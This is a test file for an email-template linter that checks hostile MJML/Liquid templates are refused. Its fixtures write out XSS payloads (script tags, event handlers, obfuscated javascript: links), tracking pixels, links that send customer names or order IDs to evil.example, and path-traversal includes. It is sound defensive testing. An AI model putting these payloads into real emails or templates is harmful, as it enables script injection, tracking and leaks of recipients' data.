/** What a template must not hold, tried one by one on one mail in one language. */
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ContentError, type ContentProblem } from '../../shared/email/content-error.ts';
import { settingsOf } from '../../shared/email/fill.ts';
import { type House, readHouse, readShared } from '../../shared/email/house.ts';
import { Findings } from '../../shared/email/findings.ts';
import { checkMails } from '../../shared/email/lint-content.ts';
import { readStep } from '../../shared/email/step.ts';
import type { Strings } from '../../shared/email/strings.ts';
import { checkTemplate, compileTemplate } from '../../shared/email/template.ts';
import { SHIPPED_CONTENT } from './content-copy.ts';

const STEP = 'templates/onboarding/check-in';
/** Of a complaint that is being looked into. */
const STATUS = 'templates/recovery/status';
const LAYOUT = `${STEP}/layout.mjml`;

let [directory, layout]: [string, string] = ['', ''];
let house: House;
let shared: Strings;

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'perennial-hostile-'));
  for (const part of ['templates/_shared', STEP, STATUS]) {
    await cp(join(SHIPPED_CONTENT, part), join(directory, part), { recursive: true });
  }
  layout = await readFile(join(directory, LAYOUT), 'utf8');
  house = await readHouse(SHIPPED_CONTENT);
  shared = await readShared(SHIPPED_CONTENT, 'en');
});

afterAll(() => rm(directory, { recursive: true }));

async function problemsOf(programme = 'onboarding', name = 'check-in'): Promise<readonly ContentProblem[]> {
  const known = new Set([...house.viewPaths, ...settingsOf('en', house.carried.shop).keys()]);
  try {
    const step = await readStep(directory, house.playbook, programme, name, known);
    const file = step.stringsFiles.find(({ locale, variant }) => locale === 'en' && variant === undefined);
    if (file === undefined) throw new Error('the check-in has English texts');
    const worded = await checkTemplate(directory, step, file, shared, house);
    return checkMails({ ...worded, ...(await compileTemplate(worded, house)) }, house);
  } catch (error) {
    if (error instanceof ContentError) return error.problems;
    throw error;
  }
}

/** What is said of the check-in with another layout. */
async function told(source: string): Promise<readonly string[]> {
  await writeFile(join(directory, LAYOUT), source);
  return (await problemsOf()).map(({ file, line, problem, advice }) => `${file}:${line}: ${problem}; ${advice}`);
}

/** What is said of a step with another text. */
async function toldOf(step: string, key: string, text: string): Promise<readonly string[]> {
  const file = join(directory, step, 'en.json');
  const source = await readFile(file, 'utf8');
  await writeFile(file, JSON.stringify({ ...JSON.parse(source), [key]: text }, undefined, 2));
  await writeFile(join(directory, LAYOUT), layout);
  const [, programme, name] = step.split('/');
  const problems = (await problemsOf(programme, name)).map(({ problem }) => problem);
  await writeFile(file, source);
  return problems;
}

describe('the tone', () => {
  it.each(['Last chance: is it working?', 'Hurry up, it ends in 5 minutes', 'Ask us only today', 'While stocks last'])(
    'of no mail rushes anybody: %s',
    async (text) => {
      expect(await toldOf(STEP, 'heading', text)).toContainEqual(
        expect.stringMatching(/^nobody is rushed, but it says/u),
      );
    },
  );

  it.each(['Recommend us', 'We are putting it right: refer a friend', 'Have 20% off', 'See our new arrivals'])(
    'of a mail that puts something right asks for nothing: %s',
    async (text) => {
      expect(await toldOf(STATUS, 'heading', text)).toContainEqual(
        expect.stringMatching(/^a mail that puts something right asks for nothing/u),
      );
    },
  );
});

it('as it is nothing is wrong', async () => {
  expect(await told(layout)).toEqual([]);
});

describe('a hostile template', () => {
  it.each([
    [
      'a loop without end',
      '<mj-text>{% for i in (1..1000000000) %}x{% endfor %}</mj-text>',
      /layout\.mjml:1: it counts through a range: \(1\.\.1000000000\)/u,
    ],
    [
      'loops within loops',
      `<mj-text>${'{% for item in order.items %}'.repeat(7)}x${'{% endfor %}'.repeat(7)}</mj-text>`,
      /layout\.mjml:1: a loop within a loop: \{% for item in order\.items %\}; end the one before/u,
    ],
    [
      'huge output',
      `<mj-text>{% for item in order.items %}${'x'.repeat(20_000)}{% endfor %}</mj-text>`,
      /check-in\/layout\.mjml:1: the mail for \S.* has \d+ bytes of HTML/u,
    ],
    [
      'more than any layout needs',
      `<mj-text>${'{% if order %}a{% endif %}'.repeat(20_000)}</mj-text>`,
      /layout\.mjml:1: the file has 5\d{5} bytes, and 40000 are the most; shorten it, beginning with what stands here/u,
    ],
    [
      'angle brackets that begin no tag',
      `<mj-text>\n${'<'.repeat(30_000)}</mj-text>`,
      /layout\.mjml:2: it has more than 1000 tags, or "<" that begins none; leave some of them out/u,
    ],
    [
      'tags within tags',
      `<mj-text>\n${'<div>'.repeat(400)}${'</div>'.repeat(400)}</mj-text>`,
      /layout\.mjml:2: it has tags within tags, more than 50 deep; end some of them before others begin/u,
    ],
    [
      'tags within tags that seem to be closed',
      `<mj-text>${'<div/>'.repeat(400)}</mj-text>`,
      /layout\.mjml:1: it has tags within tags/u,
    ],
    [
      'tags within tags of MJML',
      '<mj-wrapper>'.repeat(400),
      /layout\.mjml:1: (?:it has tags within tags|the layout holds what the frame holds)/u,
    ],
    [
      'conditions within conditions',
      `<mj-text>\n${'{% if order %}'.repeat(2_000)}${'{% endif %}'.repeat(1_000)}</mj-text>`,
      /layout\.mjml:2: it has conditions within conditions, more than 20 deep/u,
    ],
    ['names within names', `<mj-text>{{ ${'order['.repeat(6_000)}1</mj-text>`, /layout\.mjml:\d+: .*; \S/u],
    ['unescaped values', '<mj-text>{{ customer.name | raw }}</mj-text>', /undefined filter: raw/u],
    ['a block that is left alone', '<mj-text>{% raw %}{{ x }}{% endraw %}</mj-text>', /tag "raw" not found/u],
    ['an included template', "<mj-text>{% include 'x' %}</mj-text>", /tag "include" not found/u],
    ['a rendered template', "<mj-text>{% render '../../../etc/passwd' %}</mj-text>", /tag "render" not found/u],
    ['assigned variables', '<mj-text>{% assign a = 1 %}</mj-text>', /tag "assign" not found/u],
    [
      'the inside of an object',
      '<mj-text>{{ customer.constructor }}</mj-text>',
      /no variable "customer\.constructor"/u,
    ],
    ['a script', '<mj-raw><script>alert(1)</script></mj-raw>', /holds <script/u],
    [
      'a handler',
      '<mj-text><a href="https://shop.example.com/" onclick="alert(1)">x</a></mj-text>',
      /layout\.mjml:1: <a> has onclick="alert\(1\)"/u,
    ],
    ['a link that runs', '<mj-text><a href="javascript:alert(1)">x</a></mj-text>', /javascript:/u],
    ['a link with data', '<mj-text><a href="data:text/html,x">x</a></mj-text>', /data:/u],
    ['a link without encryption', '<mj-text><a href="http://shop.example.com/">x</a></mj-text>', /is not https/u],
    [
      'a picture that watches',
      '<mj-image src="https://t.example/p.gif" alt="x" width="1px" />',
      /is not one of the shop/u,
    ],
    [
      'a hidden picture',
      '<mj-text><img src="https://t.example/p.gif" alt="x" style="display:none" /></mj-text>',
      /is not one of the shop/u,
    ],
    [
      'a picture without words',
      '<mj-image src="https://shop.example.com/p.png" width="100px" />',
      /no text that stands for it/u,
    ],
    [
      'a script for some',
      "<mj-raw>{% if customer.firstName == 'Maria' %}<script>alert(1)</script>{% endif %}</mj-raw>",
      /layout\.mjml:1: it holds <script/u,
    ],
    ['a handler behind a slash', '<mj-raw><svg/onload=alert(1)></mj-raw>', /layout\.mjml:1: it holds <svg/u],
    [
      'a handler for some',
      '<mj-text><b {% if order %}onclick="alert(1)"{% endif %}>x</b></mj-text>',
      /<b> has \{% if order %\}onclick=/u,
    ],
    [
      'a link that runs, in single quotes',
      "<mj-text><a href='javascript:alert(1)'>x</a></mj-text>",
      /layout\.mjml:1: the link javascript:alert\(1\) is not https/u,
    ],
    [
      'a link that runs, without quotes',
      '<mj-raw><a href=javascript:alert(1)>x</a></mj-raw>',
      /the link javascript:alert\(1\) is not https/u,
    ],
    [
      'a link that runs, spelled otherwise',
      '<mj-text><a href="java&#9;script&colon;alert(1)">x</a></mj-text>',
      /the link \S+\s\S+ is not https/u,
    ],
    [
      'a link that runs for some',
      '<mj-text><a href="{% if order %}javascript:alert(1){% else %}https://shop.example.com/{% endif %}">x</a></mj-text>',
      /depends on its reader/u,
    ],
    [
      'a link that a literal makes',
      '<mj-text><a href="{{ \'javascript:alert(1)\' }}">x</a></mj-text>',
      /depends on its reader/u,
    ],
    [
      'a link in capitals',
      '<mj-text><a HREF="http://localhost:3000/">x</a></mj-text>',
      /the link http:\/\/localhost:3000\/ is not https/u,
    ],
    [
      'a link that tells who follows it',
      '<mj-text><a href="https://evil.example/?e={{ customer.firstName | url_encode }}">x</a></mj-text>',
      /layout\.mjml:1: the link \S+\{\{ .*\}\} depends on its reader/u,
    ],
    [
      'a picture that watches some',
      '<mj-raw>{% if order %}<img alt="x" src="https://evil.example/p.gif?o={{ order.orderId }}" width="10" height="10">{% endif %}</mj-raw>',
      /layout\.mjml:1: the picture \S+\{\{ order\.orderId \}\} is not one of the shop/u,
    ],
    [
      'a picture of the shop that watches',
      '<mj-raw><img alt="x" src="https://shop.example.com/p.gif?o={{ customer.firstName }}"></mj-raw>',
      /is not one of the shop/u,
    ],
    [
      'a picture that unsubscribes',
      '<mj-raw><img alt="x" src="{{ unsubscribeUrl }}"></mj-raw>',
      /is not one of the shop/u,
    ],
    [
      'a picture made small by a style',
      '<mj-raw><img alt="x" src="https://shop.example.com/p.png" style="width:1px;height:1px"></mj-raw>',
      /too small to be seen: width:1px/u,
    ],
    [
      'a picture behind a table',
      '<mj-raw><table background="https://t.example/p.gif"></table></mj-raw>',
      /layout\.mjml:1: <table> has background=/u,
    ],
    [
      'a picture as a button',
      '<mj-raw><input type="image" src="https://t.example/p.gif"></mj-raw>',
      /layout\.mjml:1: it holds <input/u,
    ],
    [
      'pictures to choose from',
      `<mj-text><div style="background:image-set('https://t.example/p.gif' 1x)">x</div></mj-text>`,
      /a style holds image-set\(/u,
    ],
    [
      'a style that is spelled otherwise',
      '<mj-raw><style>p{background:u\\72l(https://t.example/)}</style></mj-raw>',
      /a style holds /u,
    ],
    ['a sheet', '<mj-raw><style>@import "https://t.example/s.css";</style></mj-raw>', /a style holds @import/u],
    [
      'a style that only readers see',
      '<mj-raw>{% if order %}<style>{% endif %}<script>alert(1)</script></style></mj-raw>',
      /a style holds \{% endif %\}/u,
    ],
    ['a name in two parts', '<mj-raw><s{% if order %}cript{% endif %}>x</mj-raw>', /it holds <s\{% if order %\}cript/u],
    [
      'a name that is printed',
      "<mj-raw><{{ 'script' }}>x</mj-raw>",
      /a tag has no name of its own: <\{\{ 'script' \}\}/u,
    ],
    [
      'a branch that ends its attribute',
      `<mj-raw><p title='{% if order %}'{% else %}'title='{% endif %}><script>alert(1)</script><p title=''>x</p></mj-raw>`,
      /title of <p> is not whole/u,
    ],
    [
      'a value that can add attributes',
      '<mj-raw><p title={{ customer.firstName }}>x</p></mj-raw>',
      /title of <p> is not whole/u,
    ],
    [
      'a branch within a comment',
      '<mj-raw>{% if order %}<!--{% endif %}<script>alert(1)</script>--></mj-raw>',
      /it holds a comment/u,
    ],
    [
      'a script for Outlook',
      '<mj-raw><!--[if mso]><script>alert(1)</script><![endif]--></mj-raw>',
      /it holds <script/u,
    ],
    ['a form', '<mj-raw><form action="https://t.example/"></form></mj-raw>', /holds <form/u],
    ['a page inside', '<mj-raw><iframe src="https://t.example/"></iframe></mj-raw>', /holds <iframe/u],
    [
      'a style from elsewhere',
      '<mj-raw><link rel="stylesheet" href="https://t.example/s.css" /></mj-raw>',
      /holds <link/u,
    ],
    [
      'a picture behind',
      '<mj-text><div style="background:url(https://t.example/p.gif)">x</div></mj-text>',
      /a style holds url\(/u,
    ],
    [
      'a way elsewhere',
      '<mj-raw><meta http-equiv="refresh" content="0;url=https://t.example/" /></mj-raw>',
      /<meta> has http-equiv="refresh"/u,
    ],
    [
      'a piece from outside',
      '</mj-column></mj-section>\n<mj-include path="../../../../package.json" />\n<mj-section><mj-column>',
      /lies outside the content|cannot be read/u,
    ],
    ['an attribute MJML does not know', '<mj-text colour="red">x</mj-text>', /Attribute colour is illegal/u],
    ['a side written out', '<mj-text align="left">x</mj-text>', /align="left is written out, and wrong in half/u],
    ['a side in single quotes', "<mj-text align='left'>x</mj-text>", /align='left is written out/u],
    ['a direction without quotes', '<mj-raw><p dir=ltr>x</p></mj-raw>', /dir=ltr is written out/u],
    ['what floats', '<mj-raw><p style="float:left">x</p></mj-raw>', /<p> has the style float:left/u],
    [
      'more room on one side',
      '<mj-text><span style="padding-left:40px;padding-right:0">x</span></mj-text>',
      /padding-left:40px is written out/u,
    ],
    [
      'a colour by its name',
      '<mj-text><span style="color:white">x</span></mj-text>',
      /the colour white is written out/u,
    ],
    ['a colour by its name in an attribute', '<mj-text color="white">x</mj-text>', /the colour white is written out/u],
    [
      'a colour by its parts',
      '<mj-text><span style="color:rgb(255,253,250)">x</span></mj-text>',
      /the colour rgb\( is written out/u,
    ],
    [
      'room on one side',
      '<mj-text><span style="margin-left:8px">x</span></mj-text>',
      /margin-left:8px is written out/u,
    ],
    ['a colour of its own', '<mj-text color="#ff0000">x</mj-text>', /the colour #ff0000 is written out/u],
    ['room on the left alone', '<mj-text padding="0 0 0 40px">x</mj-text>', /padding="0 0 0 40px is written out/u],
    [
      'room on the left alone, in a style',
      '<mj-text><span style="padding:0 0 0 40px">x</span></mj-text>',
      /padding:0 0 0 40px is written out/u,
    ],
    ['what is left open', '<mj-text><div class="x">x</mj-text>', /layout\.mjml:1: <div> is not closed; write <\/div>/u],
    ['what closes the frame', '<mj-raw></td></mj-raw>', /layout\.mjml:1: <\/td> closes nothing/u],
    [
      'a section on a ground that stays light',
      '</mj-column></mj-section><mj-section background-color="{{ colours.light.line }}"><mj-column><mj-text>x</mj-text>',
      /layout\.mjml:1: “x” cannot be read in the dark/u,
    ],
    [
      'a colour that stays in the dark',
      '<mj-text><span style="color:{{ colours.light.muted }}">x</span></mj-text>',
      /layout\.mjml:1: “x” cannot be read in the dark: the contrast of #655d50 on #1f1c18 is 2\.\d+/u,
    ],
  ])('with %s is refused', async (_what, piece, finding) => {
    expect(await told(`<mj-section><mj-column>${piece}</mj-column></mj-section>\n${layout}`)).toContainEqual(
      expect.stringMatching(finding),
    );
  });
});

it.each([
  [
    'one text is huge',
    'intro',
    `"${'word '.repeat(120_000)}"`,
    /en\.json:3: the file has 6\d{5} bytes, and 100000 are/u,
  ],
  ['one text is long', 'intro', `"${'word '.repeat(1_000)}"`, /en\.json:3: intro: expected at most 4000 characters/u],
  ['lists are in lists', 'intro', '['.repeat(40_000), /en\.json:3: expected at most 50 lists and objects/u],
  [
    'conditions are in conditions',
    'intro',
    `"${'{% if order %}'.repeat(200)}"`,
    /en\.json:3: it has conditions within/u,
  ],
])('texts of which %s are refused, with their line', async (_what, key, value, finding) => {
  const file = join(directory, STEP, 'en.json');
  const source = await readFile(file, 'utf8');
  await writeFile(file, `{\n"subject": "Is it working?",\n"${key}": ${value}\n}\n`);
  await writeFile(join(directory, LAYOUT), layout);
  const found = (await problemsOf()).map(({ file: at, line, problem }) => `${at}:${line}: ${problem}`);
  await writeFile(file, source);
  expect(found).toContainEqual(expect.stringMatching(finding));
});

it('pieces that repeat pieces that repeat pieces are refused, and are not put together', async () => {
  for (const [index, next] of ['b', 'c', 'd'].entries()) {
    const includes = `<mj-include path="./${next}.mjml" />\n`.repeat(500);
    await writeFile(join(directory, 'templates/_shared', `${'abc'[index]}.mjml`), includes);
  }
  await writeFile(join(directory, 'templates/_shared/d.mjml'), '<mj-section></mj-section>\n');
  expect(await told(`<mj-include path="../../_shared/a.mjml" />\n${layout}`)).toEqual([
    expect.stringMatching(/the layout has more than 100000 characters with the pieces it includes; shorten it/u),
  ]);
});

it('whatever else looking at a file ends with is a finding of that file, with its cause', async () => {
  const findings = new Findings();
  const cause = new RangeError('Maximum call stack size exceeded');
  const failing = (): string => {
    throw cause;
  };
  expect(await findings.gather(LAYOUT, failing)).toBeUndefined();
  expect(await findings.gather(LAYOUT, () => Promise.reject(cause))).toBeUndefined();
  expect(findings.problems[0]).toMatchObject({
    file: LAYOUT,
    problem: 'nothing can be made of it: RangeError: Maximum call stack size exceeded',
  });
  expect(() => findings.settle()).toThrow(expect.objectContaining({ cause: expect.objectContaining({ cause }) }));
});

it.each([
  ['without words', '<mj-image src="https://shop.example.com/p.png" width="100px" />', 'no text that stands for it'],
  ['too small to be seen', '<mj-image src="https://shop.example.com/p.png" alt="x" width="2px" />', 'too small'],
  ['of somebody else', '<mj-image\n  alt="x"\n  src="https://t.example/p.png" />', 'not one of the shop'],
])('a picture %s is found in the layout, wherever it stands', async (_what, picture, problem) => {
  const fine = '<mj-text><img src="https://shop.example.com/p.png" alt="x" /></mj-text>';
  const section = `<mj-section><mj-column>\n${fine}\n${picture}\n</mj-column></mj-section>`;
  for (const source of [`${section}\n${layout}`, `${layout}${section}\n`]) {
    const lines = source.split('\n');
    const line = lines.findIndex((each) => each === picture.split('\n')[0]) + 1;
    const at = problem === 'not one of the shop' ? line + 2 : line;
    expect(await told(source)).toEqual(
      expect.arrayContaining([expect.stringMatching(`^${LAYOUT.replaceAll('.', '\\.')}:${at}: .*${problem}`)]),
    );
  }
});
